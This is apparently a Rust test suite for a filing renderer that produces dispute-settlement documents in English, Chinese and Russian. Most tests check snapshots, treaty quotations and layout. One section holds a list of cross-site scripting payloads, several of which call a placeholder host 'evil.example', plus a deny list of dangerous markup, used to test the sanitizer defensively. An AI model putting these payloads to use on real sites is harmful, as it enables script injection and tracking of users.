#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

//! Every built-in template in every language, rendered against the fixed
//! example case and compared with its reviewed snapshot (`cargo insta
//! review` after an intended change); the sanitizer against hostile input;
//! rendering is deterministic.

use std::collections::BTreeMap;

use chrono::{NaiveDate, Offset, Utc};
use pacta_core::filing::template::FieldType;
use pacta_core::filing::{self, example, library::Library, FilingRequest};

fn value(
    name: &str,
    kind: FieldType,
    lang: &str,
    party: &mut impl Iterator<Item = String>,
) -> String {
    let by_lang = |en: &str, zh: &str, ru: &str| match lang {
        "zh" => zh.to_owned(),
        "ru" => ru.to_owned(),
        _ => en.to_owned(),
    };
    match (name, kind) {
        ("means", _) => by_lang("arbitration", "仲裁", "арбитраж"),
        ("mediator_name" | "prepared_by", _) => "Dr. Ines Moreau".into(),
        ("nationality", _) => by_lang("French", "法国", "Франция"),
        ("affiliation", _) => by_lang("University of Geneva", "日内瓦大学", "Женевский университет"),
        ("languages" | "authentic_languages", _) => by_lang("English and Chinese", "中文和英文", "английский и китайский"),
        ("forum", _) => by_lang("Permanent Court of Arbitration", "常设仲裁法院", "Постоянная палата третейского суда"),
        ("period_start", _) => "2026-03-01".into(),
        ("period_end", _) => "2026-04-30".into(),
        (_, FieldType::Text) => by_lang("Geneva", "日内瓦", "Женева"),
        (_, FieldType::Multiline) => by_lang(
            "The parties will establish a joint repair fund.\n\nThey will open a hotline between their cable authorities.",
            "双方将设立联合修复基金。\n\n双方将在各自海缆主管部门之间建立热线。",
            "Стороны учредят совместный фонд для ремонта.\n\nСтороны создадут линию прямой связи между своими органами, ведающими кабелями.",
        ),
        (_, FieldType::Date) => "2026-05-04".into(),
        (_, FieldType::Party) => party.next().unwrap_or_default(),
        (_, FieldType::Number) => "30".into(),
    }
}

fn request(id: &str, lang: &str, library: &Library) -> FilingRequest {
    let file = example::case_file();
    let template = library.get(id, lang).unwrap();
    let mut parties = file.case.parties.clone().into_iter().cycle();
    let fields: BTreeMap<String, String> = template
        .meta
        .fields
        .iter()
        .map(|f| (f.name.clone(), value(&f.name, f.kind, lang, &mut parties)))
        .collect();
    FilingRequest {
        template: id.into(),
        language: Some(lang.into()),
        parallel: None,
        fields,
        filing_date: NaiveDate::from_ymd_opt(2026, 5, 4).unwrap(),
        utc_offset: Utc.fix(),
    }
}

#[test]
fn every_built_in_template_renders_in_every_language_as_reviewed() {
    let library = Library::built_in();
    let file = example::case_file();
    let mut count = 0;
    for t in library.templates() {
        let rendered = filing::render(
            &library,
            &file,
            &request(&t.meta.id, &t.meta.language, &library),
        )
        .unwrap_or_else(|e| panic!("{}.{}: {e}", t.meta.id, t.meta.language));
        assert!(
            rendered.markdown.contains(&file.case.reference.to_string()),
            "{} names the case",
            t.meta.id
        );
        insta::assert_snapshot!(
            format!("{}.{}", t.meta.id, t.meta.language),
            rendered.markdown
        );
        count += 1;
    }
    assert_eq!(count, 30, "ten templates in three languages");
}

#[test]
fn each_language_quotes_clause_k_and_marks_translations_as_unofficial() {
    let library = Library::built_in();
    let file = example::case_file();
    for (lang, quote, note) in [
        (
            "zh",
            "在涉及上述准则的活动时产生的任何争端，都以和平方式解决，不得使用武力或以武力相威胁。",
            None,
        ),
        (
            "en",
            "settled by peaceful means",
            Some("Unofficial translation from the Chinese text of A/66/359"),
        ),
        (
            "ru",
            "мирными средствами",
            Some("Неофициальный перевод с китайского текста документа A/66/359"),
        ),
    ] {
        for id in [
            "request-for-consultations",
            "settlement-agreement",
            "closure-report",
        ] {
            let r = filing::render(&library, &file, &request(id, lang, &library)).unwrap();
            assert!(r.markdown.contains(quote), "{id}.{lang} quotes clause (k)");
            match note {
                Some(note) => assert!(
                    r.markdown.contains(note),
                    "{id}.{lang} marks the translation"
                ),
                None => {
                    assert!(!r.markdown.contains("Unofficial") && !r.markdown.contains("非正式"))
                }
            }
        }
    }
}

#[test]
fn the_printable_page_and_parallel_text_are_as_reviewed() {
    let library = Library::built_in();
    let file = example::case_file();
    let mut req = request("settlement-agreement", "en", &library);
    let page = filing::render(&library, &file, &req).unwrap().html;
    assert!(
        page.starts_with("<!DOCTYPE html>")
            && page.contains("@page")
            && page.contains("K-2026-0007")
    );
    assert!(
        page.contains(r#"class="signatures""#),
        "a page break before the signatures"
    );
    insta::assert_snapshot!("settlement-agreement.en.html", page);
    req.parallel = Some("zh".into());
    let parallel = filing::render(&library, &file, &req).unwrap();
    assert!(parallel.html.contains(r#"<div class="parallel">"#));
    // Part by part: as many sections in each language, in turn, so that
    // each article stands beside its translation.
    let en = parallel.html.matches(r#"<section lang="en">"#).count();
    let zh = parallel.html.matches(r#"<section lang="zh">"#).count();
    assert!(en > 5 && en == zh, "{en} English parts, {zh} Chinese");
    let first_en = parallel.html.find(r#"<section lang="en">"#).unwrap();
    let first_zh = parallel.html.find(r#"<section lang="zh">"#).unwrap();
    let second_en = parallel.html[first_en + 1..]
        .find(r#"<section lang="en">"#)
        .unwrap()
        + first_en
        + 1;
    assert!(first_en < first_zh && first_zh < second_en, "in turn");
    // Every id once on the page (the footnote of each language its own).
    let ids: Vec<&str> = parallel
        .html
        .match_indices(" id=\"")
        .map(|(i, _)| {
            let rest = &parallel.html[i + 5..];
            &rest[..rest.find('"').unwrap()]
        })
        .collect();
    let unique: std::collections::HashSet<&&str> = ids.iter().collect();
    assert_eq!(unique.len(), ids.len(), "{ids:?}");
    assert!(
        ids.iter().any(|id| id.starts_with("zh-")) && ids.iter().any(|id| id.starts_with("en-"))
    );
    assert!(parallel.title.contains(" / "));
}

#[test]
fn rendering_is_deterministic() {
    let library = Library::built_in();
    let file = example::case_file();
    for t in library.templates() {
        let req = request(&t.meta.id, &t.meta.language, &library);
        let a = filing::render(&library, &file, &req).unwrap();
        let b = filing::render(&library, &file, &req).unwrap();
        assert_eq!(
            (a.markdown, a.html),
            (b.markdown, b.html),
            "{}.{}",
            t.meta.id,
            t.meta.language
        );
    }
}

/// Hostile markup, in a template's text or a journal entry alike.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/track.png\">",
    "<svg onload=alert(1)><circle r=1></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<p onclick=\"alert(1)\" onmouseover=alert(2)>text</p>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example\"><input name=x></form>",
    "<base href=\"https://evil.example/\">",
    "![tracker](https://evil.example/pixel.png)",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
];

fn assert_harmless(html: &str, input: &str) {
    let lower = html.to_lowercase();
    for bad in [
        "<script",
        "onerror",
        "onload",
        "onclick",
        "onmouseover",
        "ontoggle",
        "javascript:",
        "data:text",
        "<iframe",
        "<img",
        "<svg",
        "style=",
        "<style",
        "<link",
        "<meta",
        "<object",
        "<embed",
        "<form",
        "<base",
        "srcdoc",
        "evil.example/x",
        "evil.example/pixel",
        "evil.example/track",
    ] {
        assert!(
            !lower.contains(bad),
            "{bad:?} survived in {html:?} from {input:?}"
        );
    }
}

#[test]
fn hostile_markup_cannot_reach_the_html() {
    assert!(HOSTILE.len() >= 20);
    for input in HOSTILE {
        assert_harmless(&pacta_core::markdown::to_html(input), input);
    }
}

#[test]
fn hostile_markup_in_a_journal_entry_or_a_field_is_stripped_from_the_filing() {
    let library = Library::built_in();
    let mut file = example::case_file();
    let hostile = HOSTILE.join("\n\n");
    file.entries[5].body = hostile.clone();
    let mut req = request("minutes", "en", &library);
    req.fields.insert("prepared_by".into(), HOSTILE[0].into());
    let r = filing::render(&library, &file, &req).unwrap();
    assert!(
        r.markdown.contains("<script>"),
        "the markdown keeps what was typed"
    );
    let body = &r.html[r.html.find("<main>").unwrap()..];
    assert_harmless(body, &hostile);
    assert!(body.contains("click"), "the harmless text stays");
}

/// UN Charter Article 33(1), in its official English, Chinese and Russian
/// texts: every means the referral recalls and offers.
const ARTICLE_33: [(&str, &str, [&str; 8]); 3] = [
    (
        "en",
        "negotiation, enquiry, mediation, conciliation, arbitration, judicial settlement, resort to regional agencies or arrangements, or other peaceful means of their own choice",
        ["negotiation", "enquiry", "mediation", "conciliation", "arbitration", "judicial settlement", "resort to regional agencies or arrangements", "other peaceful means of their own choice"],
    ),
    (
        "zh",
        "谈判、调查、调停、和解、公断、司法解决、区域机关或区域办法之利用、或各该国自行选择之其他和平方法",
        ["谈判", "调查", "调停", "和解", "公断", "司法解决", "区域机关或区域办法之利用", "各该国自行选择之其他和平方法"],
    ),
    (
        "ru",
        "путем переговоров, обследования, посредничества, примирения, арбитража, судебного разбирательства, обращения к региональным органам или соглашениям или иными мирными средствами по своему выбору",
        ["переговоры", "обследование", "посредничество", "примирение", "арбитраж", "судебное разбирательство", "обращение к региональным органам или соглашениям", "иные мирные средства по своему выбору"],
    ),
];

#[test]
fn the_referral_recalls_and_offers_every_means_of_article_33() {
    let library = Library::built_in();
    let file = example::case_file();
    for (lang, charter, means) in ARTICLE_33 {
        let template = library.get("referral", lang).unwrap();
        let label = &template.field("means").unwrap().label;
        let mut req = request("referral", lang, &library);
        let recital = filing::render(&library, &file, &req).unwrap().markdown;
        assert!(
            recital.contains(charter),
            "{lang}: the whole of Article 33(1)\n{recital}"
        );
        // Each means is offered by the field, and the template knows it: it
        // says the means' own procedure, not the one for a means it does not know.
        req.fields
            .insert("means".into(), "a joint fact-finding panel".into());
        let unknown = filing::render(&library, &file, &req).unwrap().markdown;
        let generic = unknown.split("###").nth(3).unwrap().to_owned();
        for m in means {
            assert!(
                label.contains(m),
                "{lang}: the field offers {m:?} ({label})"
            );
            req.fields.insert("means".into(), m.into());
            let md = filing::render(&library, &file, &req).unwrap().markdown;
            let procedure = md.split("###").nth(3).unwrap();
            let other = m.contains("other") || m.contains("其他") || m.contains("иные");
            assert_eq!(
                procedure == generic,
                other,
                "{lang}: {m:?} is known and has its own procedure\n{procedure}"
            );
        }
    }
}

/// Every page of a filing carries the case's confidentiality in the page's
/// language, with the glossary's words (保密 is not a state-secret level).
#[test]
fn every_page_carries_the_confidentiality_marking_in_its_language() {
    let library = Library::built_in();
    let mut file = example::case_file();
    for (level, words) in [
        (
            "restricted",
            ["Restricted", "限制分发", "Ограниченный доступ"],
        ),
        ("confidential", ["Confidential", "保密", "Конфиденциально"]),
    ] {
        file.case.confidentiality = level.into();
        for (lang, word) in ["en", "zh", "ru"].into_iter().zip(words) {
            let html = filing::render(&library, &file, &request("minutes", lang, &library))
                .unwrap()
                .html;
            assert!(
                html.contains(&format!("<div class=\"marking\">{word}</div>")),
                "{level} {lang}"
            );
            assert!(!html.contains("机密"), "a state-secret level in {lang}");
        }
    }
}
